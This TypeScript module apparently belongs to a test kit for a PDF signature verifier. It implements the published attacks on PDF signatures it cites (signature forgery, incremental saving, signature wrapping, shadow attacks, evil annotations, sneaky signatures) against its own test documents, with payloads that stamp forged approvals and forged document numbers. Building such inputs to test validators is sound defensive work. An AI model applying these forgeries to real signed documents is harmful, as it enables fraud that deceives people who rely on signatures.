/**
 * The attacks on PDF signatures the published research describes, built from documents testkit
 * signs itself (Mladenov et al., "1 Trillion Dollar Refund", CCS 2019 — Universal Signature
 * Forgery, Incremental Saving Attack, Signature Wrapping; Mainka et al., "Shadow Attacks", NDSS
 * 2021 — hide, replace, hide-and-replace; Rohlmann et al., "Breaking the Specification", S&P 2021 —
 * Evil Annotation, Sneaky Signature). Each returns the attacked bytes; the honest document is the
 * input. These edit only the simple documents `minimalPdf` and pdfsig produce.
 */

const latin1 = (b: Uint8Array) => Buffer.from(b).toString('latin1');

/** The last definition of object `num` (its dictionary text, up to `endobj`). */
export function lastObject(bytes: Uint8Array, num: number): string {
  const text = latin1(bytes);
  const re = new RegExp(`(?:^|[\\r\\n])${num} 0 obj\\s*([\\s\\S]*?)endobj`, 'g');
  let last: string | undefined;
  for (let m = re.exec(text); m; m = re.exec(text)) last = m[1];
  if (last === undefined) throw new Error(`testkit: object ${num} not found`);
  return last.trim();
}

/**
 * Appends an incremental update redefining `objects` (number → body without `n 0 obj`), with a
 * classic xref section and trailer, or, with `withoutXref`, the objects alone (the variant of the
 * Incremental Saving Attack that counts on viewers repairing the file).
 */
export function appendIncrementalUpdate(
  bytes: Uint8Array,
  objects: Record<number, string>,
  options: { withoutXref?: boolean } = {},
): Uint8Array {
  const text = latin1(bytes);
  const prev = Number([...text.matchAll(/startxref\s+(\d+)/g)].at(-1)![1]);
  const size = sizeOf(text);
  const root = [...text.matchAll(/\/Root (\d+ \d+ R)/g)].at(-1)![1];
  let tail = '\n';
  const offsets: [number, number][] = [];
  for (const [num, body] of Object.entries(objects)) {
    offsets.push([Number(num), bytes.length + Buffer.byteLength(tail, 'latin1')]);
    tail += `${num} 0 obj\n${body}\nendobj\n`;
  }
  if (!options.withoutXref) {
    const xref = bytes.length + Buffer.byteLength(tail, 'latin1');
    tail += 'xref\n';
    for (const [num, off] of offsets) tail += `${num} 1\n${String(off).padStart(10, '0')} 00000 n \n`;
    const newSize = Math.max(size, ...offsets.map(([n]) => n + 1));
    tail += `trailer\n<< /Size ${newSize} /Root ${root} /Prev ${prev} >>\nstartxref\n${xref}\n%%EOF\n`;
  }
  return new Uint8Array(Buffer.concat([bytes, Buffer.from(tail, 'latin1')]));
}

/** The largest trailer /Size in a PDF's text: the next object number free for an update. */
function sizeOf(text: string): number {
  return Math.max(...[...text.matchAll(/\/Size (\d+)/g)].map((m) => Number(m[1])));
}

/** The next object number an incremental update may use (the largest trailer /Size). */
export function nextFree(bytes: Uint8Array): number {
  return sizeOf(latin1(bytes));
}

function stream(content: string, dict = ''): string {
  return `<< ${dict} /Length ${content.length} >>\nstream\n${content}\nendstream`;
}

/** The page (object 3) with its /Annots array, and the form, as refs and texts. */
function pageAndForm(bytes: Uint8Array): {
  annotsNum: number;
  annots: string[];
  formNum: number;
  form: string;
} {
  const page = lastObject(bytes, 3);
  const annotsNum = Number(/\/Annots (\d+) 0 R/.exec(page)![1]);
  const annots = [...lastObject(bytes, annotsNum).matchAll(/(\d+) 0 R/g)].map((m) => `${m[1]} 0 R`);
  const catalog = lastObject(bytes, 1);
  const formNum = Number(/\/AcroForm (\d+) 0 R/.exec(catalog)![1]);
  return { annotsNum, annots, formNum, form: lastObject(bytes, formNum) };
}

/** Incremental Saving Attack: an update replaces the page content. */
export function incrementalSavingAttack(
  signed: Uint8Array,
  options: { withoutXref?: boolean } = {},
): Uint8Array {
  return appendIncrementalUpdate(
    signed,
    { 4: stream('BT /F1 14 Tf 72 770 Td (CONG VAN SO 999/GIA MAO) Tj ET') },
    options,
  );
}

/** Universal Signature Forgery: a later "signature" whose ByteRange and /Contents are empty. */
export function universalSignatureForgery(
  signed: Uint8Array,
  options: { visible?: boolean } = {},
): Uint8Array {
  const n = nextFree(signed);
  const { annotsNum, annots, formNum, form } = pageAndForm(signed);
  const fields = /\/Fields \[([^\]]*)\]/.exec(form)![1]!.trim();
  // Visible: the forged signature's widget paints "approved" text over the signed page.
  const widget = options.visible
    ? `/Rect [60 700 400 740] /F 4 /AP << /N ${n + 2} 0 R >>`
    : '/Rect [0 0 0 0]';
  return appendIncrementalUpdate(signed, {
    [n]: `<< /FT /Sig /T (GiaMao) /Type /Annot /Subtype /Widget ${widget} /P 3 0 R /V ${n + 1} 0 R >>`,
    [n + 1]:
      '<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /ByteRange [0 0 0 0] /Contents <> >>',
    ...(options.visible
      ? {
          [n + 2]: stream(
            '1 1 1 rg 0 0 340 40 re f BT /Helv 14 Tf 2 12 Td (DA PHE DUYET - CHI 9.000.000.000 DONG) Tj ET',
            '/Type /XObject /Subtype /Form /BBox [0 0 340 40]',
          ),
        }
      : {}),
    [annotsNum]: `[${[...annots, `${n} 0 R`].join(' ')}]`,
    [formNum]: form.replace(/\/Fields \[[^\]]*\]/, `/Fields [${fields} ${n} 0 R]`),
  });
}

/** Signature Wrapping: the last signature's ByteRange rewritten, in place, to leave a larger hole. */
export function signatureWrapping(signed: Uint8Array): Uint8Array {
  const text = latin1(signed);
  const at = text.lastIndexOf('/ByteRange');
  const m = /\/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]/.exec(text.slice(at))!;
  const [a, b, c, d] = [m[1], m[2], m[3], m[4]].map(Number) as [number, number, number, number];
  const original = m[0];
  let replaced = `/ByteRange [${a} ${b - 100} ${c} ${d}]`;
  replaced = replaced.padEnd(original.length, ' ');
  if (replaced.length !== original.length) throw new Error('testkit: cannot rewrite the ByteRange in place');
  const out = new Uint8Array(signed);
  out.set(Buffer.from(replaced, 'latin1'), at);
  return out;
}

/** Shadow "hide": the signed overlay (object 6) that hid a second line is emptied by an update. */
export function shadowHide(signed: Uint8Array): Uint8Array {
  return appendIncrementalUpdate(signed, { 6: stream(' ') });
}

/** Shadow "replace": the font (object 5) is replaced, changing how the signed text renders. */
export function shadowReplace(signed: Uint8Array): Uint8Array {
  return appendIncrementalUpdate(signed, { 5: '<< /Type /Font /Subtype /Type1 /BaseFont /Courier >>' });
}

/** Shadow "hide-and-replace": the page now points at other content. */
export function shadowHideAndReplace(signed: Uint8Array): Uint8Array {
  const n = nextFree(signed);
  const page = lastObject(signed, 3).replace(/\/Contents (\[[^\]]*\]|\d+ 0 R)/, `/Contents ${n} 0 R`);
  return appendIncrementalUpdate(signed, {
    [n]: stream('BT /F1 14 Tf 72 770 Td (QUYET DINH THAY THE) Tj ET'),
    3: page,
  });
}

/** Evil Annotation: a free-text annotation painted over the signed page. */
export function evilAnnotation(signed: Uint8Array): Uint8Array {
  const n = nextFree(signed);
  const { annotsNum, annots } = pageAndForm(signed);
  return appendIncrementalUpdate(signed, {
    [n]: `<< /Type /Annot /Subtype /FreeText /Rect [60 760 400 790] /Contents (CONG VAN SO 999/GIA MAO) /DA (/Helv 14 Tf 0 g) /AP << /N ${n + 1} 0 R >> >>`,
    [n + 1]: stream(
      '1 1 1 rg 0 0 340 30 re f BT /Helv 14 Tf 2 8 Td (CONG VAN SO 999/GIA MAO) Tj ET',
      '/Type /XObject /Subtype /Form /BBox [0 0 340 30]',
    ),
    [annotsNum]: `[${[...annots, `${n} 0 R`].join(' ')}]`,
  });
}

/** Sneaky Signature: a signature field with a visible appearance and no signature at all. */
export function sneakySignature(signed: Uint8Array): Uint8Array {
  const n = nextFree(signed);
  const { annotsNum, annots, formNum, form } = pageAndForm(signed);
  const fields = /\/Fields \[([^\]]*)\]/.exec(form)![1]!.trim();
  return appendIncrementalUpdate(signed, {
    [n]: `<< /FT /Sig /T (DaDuyet) /Type /Annot /Subtype /Widget /F 4 /Rect [60 760 400 790] /P 3 0 R /AP << /N ${n + 1} 0 R >> >>`,
    [n + 1]: stream(
      '1 1 1 rg 0 0 340 30 re f BT /Helv 14 Tf 2 8 Td (CONG VAN SO 999/GIA MAO) Tj ET',
      '/Type /XObject /Subtype /Form /BBox [0 0 340 30]',
    ),
    [annotsNum]: `[${[...annots, `${n} 0 R`].join(' ')}]`,
    [formNum]: form.replace(/\/Fields \[[^\]]*\]/, `/Fields [${fields} ${n} 0 R]`),
  });
}
